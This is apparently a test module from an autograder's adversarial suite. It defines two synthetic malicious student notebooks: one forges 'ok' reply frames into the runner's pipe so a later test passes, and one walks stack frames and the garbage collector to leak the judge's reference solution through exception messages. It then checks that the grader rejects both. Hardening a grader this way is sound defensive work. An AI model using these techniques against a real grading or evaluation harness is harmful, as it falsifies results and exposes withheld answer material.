"""Attacks on the judge <-> runner protocol (issue 17, classes 7 and 5).

- p01_forged_frames (class 7): the synthetic notebook's `add` writes well-formed "ok" frames into the
  runner's reply pipe (found from the runner's own frames, else sys.argv) so that the NEXT request,
  `scale_by_k`, reads forged passing answers (to its `has` and its `call`) although `scale` is the stub.
  Two frames copy the id of the current request (the most a student can learn), one has no id at all.
- p02_reference_leak (class 5): a solved 03_early_exit notebook whose `threshold_sweep` finds the
  reference `entropy` that the judge ships beside it (frame walk over the runner's request dict, then gc)
  and sends its source back in exception messages (a ValueError, then a TestFailure raised from the
  student's code), and stashes it for `fit_temperature`, a plain call later on, to raise again. The
  check: no record line and no feedback file contains a line of the reference's `entropy`.
"""

from __future__ import annotations

import ast
import json

import grading_fixtures as S
from adversarial.submissions import ADD_TESTS, Attack, BuildContext

FORGED_ADD = '''import json, os, struct, sys


def _reply_end():
    """The runner's reply fd and current request, read from its frames (else the fd from sys.argv)."""
    f = sys._getframe()
    while f is not None:
        if "write_fd" in f.f_locals and "request" in f.f_locals:
            return f.f_locals["write_fd"], f.f_locals["request"]
        f = f.f_back
    return int(sys.argv[-1]), {}


def _frame(header, payload=b""):
    head = json.dumps(header).encode()
    body = struct.pack(">I", len(head)) + head + payload
    return struct.pack(">Q", len(body)) + body


def add(a, b):
    """Elementwise sum (honest), plus forged replies for the next request on the broadcast call."""
    import torch
    from autograder.student import sanitize_bytes

    out = a + b
    if tuple(a.shape) == (4, 3) and tuple(b.shape) == (3,):
        fd, request = _reply_end()
        header = {"kind": "ok"}
        if isinstance(request, dict) and "id" in request:
            header["id"] = request["id"]
        x = torch.randn(4, 3, generator=torch.Generator().manual_seed(2))
        forged = _frame(header, sanitize_bytes(out))  # this call's answer (honest), then the next test's:
        forged += _frame({"kind": "has", "value": True})  # has("scale"), a frame with no id
        forged += _frame(header, sanitize_bytes(x * 2.5))  # call("scale"), with this request's id
        os.write(fd, forged)
    return out'''

LEAKY_SWEEP = '''import gc, sys

_STASH = []


def _shipped_reference():
    """Source of the trusted helpers the judge shipped for this probe (runner frames, then gc)."""
    f = sys._getframe()
    while f is not None:
        for value in list(f.f_locals.values()):
            if isinstance(value, dict) and isinstance(value.get("reference"), dict):
                return str(value["reference"].get("source", ""))
        f = f.f_back
    for obj in gc.get_objects():
        if isinstance(obj, dict) and isinstance(obj.get("reference"), dict) and "source" in obj["reference"]:
            return str(obj["reference"]["source"])
    return ""


def threshold_sweep(exit_logits, y, thresholds, exit_costs):
    """Leaks the shipped reference through its exception messages."""
    source = _shipped_reference()
    source = source[source.find("def entropy"):] if "def entropy" in source else source
    _STASH.append(source)
    if len(_STASH) == 1:
        raise ValueError(" // ".join(source.splitlines()))
    from autograder.suite import TestFailure

    raise TestFailure(source)'''

LEAKY_TEMPERATURE = '''def fit_temperature(logits, y):
    """Raises what threshold_sweep stashed (a plain call, after the probes that shipped code)."""
    raise ValueError(" // ".join((_STASH[-1] if _STASH else "nothing stashed").splitlines()))'''


def _reference_markers(ctx: BuildContext) -> list[str]:
    """Lines of the reference `entropy` (as the judge ships it) that must never reach an output."""
    text = (ctx.root / "autograder" / "course" / "03_early_exit" / "reference.py").read_text(encoding="utf-8")
    node = next(n for n in ast.parse(text).body if isinstance(n, ast.FunctionDef) and n.name == "entropy")
    code = [ast.unparse(stmt).splitlines()[0] for stmt in node.body[1:]]  # statements after the docstring
    return ["def entropy(logits", *[line for line in code if len(line) >= 24][:6]]


def _no_marker_check(markers: list[str]):
    def check(record: dict | None, batch: dict) -> list[str]:
        problems: list[str] = []
        texts = {"results.jsonl": json.dumps(record or {}, ensure_ascii=False)}
        for path in (batch["out"] / "feedback").rglob("*"):
            if path.is_file() and "p02_reference_leak" in str(path):
                texts[str(path.relative_to(batch["out"]))] = path.read_text(encoding="utf-8", errors="replace")
        for name, text in texts.items():
            hits = [m for m in markers if m in text]
            if hits:
                problems.append(f"{name} carries reference source: {hits[0]!r}")
        return problems

    return check


def add_attacks(ctx: BuildContext) -> None:
    ctx.add(
        Attack(
            "p01_forged_frames",
            "write forged 'ok' frames into the reply pipe so the next test reads them",
            zero=("scale_by_k",),
            normal=(*ADD_TESTS, "model_has_two_linear"),
            reason="answered no request",
            klass=7,
        ),
        S.notebook(add=FORGED_ADD, scale=S.stub(S.SCALE)),
    )
    markers = _reference_markers(ctx)
    ctx.add(
        Attack(
            "p02_reference_leak",
            "copy the shipped reference source into exception messages (and stash it for a later call)",
            stem="03_early_exit",
            zero=("sweep_matches_per_sample_rule", "sweep_extreme_thresholds", "temperature_minimises_nll"),
            normal=("entropy_matches_definition", "expected_cost_weights_samples"),
            reason="withheld",
            klass=5,
            check=_no_marker_check(markers),
            extra={"markers": markers},
        ),
        ctx.course_notebook(
            "03_early_exit", {"threshold_sweep_impl": LEAKY_SWEEP, "fit_temperature_impl": LEAKY_TEMPERATURE}
        ),
    )
